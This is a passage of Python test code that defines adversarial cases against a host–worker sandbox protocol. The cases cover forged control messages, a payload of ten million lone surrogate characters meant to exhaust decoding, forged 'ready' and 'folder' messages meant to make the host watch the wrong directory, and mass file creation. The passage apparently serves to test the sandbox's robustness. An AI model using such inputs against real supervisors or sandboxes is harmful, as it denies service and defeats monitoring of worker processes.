for number in range(12): forge(done('{"$":"set","parts":[%s]}' % keys, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'halves_of_characters',
    'sends ten million halves of surrogate pairs, each of which Python decodes by a call',
    FORGED
    + '''
for number in range(4): forge(done('"', number).encode().replace(b'"}}}', b'\\xed\\xa0\\x80' * 10_000_000 + b'"}}}'))
''',
    open_in=IN_PROCESS,
    timeout=6,
    ends=False,
    vain='where host and worker are one, nobody may read it',
)
attack(
    'lies',
    'forged_start',
    'says again that it is ready and which folder it writes to, so that the host counts files in another one',
    FORGED
    + '''
for op in ('folder', 'ready', 'file', 'open', 'exec'): forge('{"op":"%s","id":1,"name":"x"}' % op)
for number in range(3000): attempt(open, f'{own}/many-{number}', 'w')
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
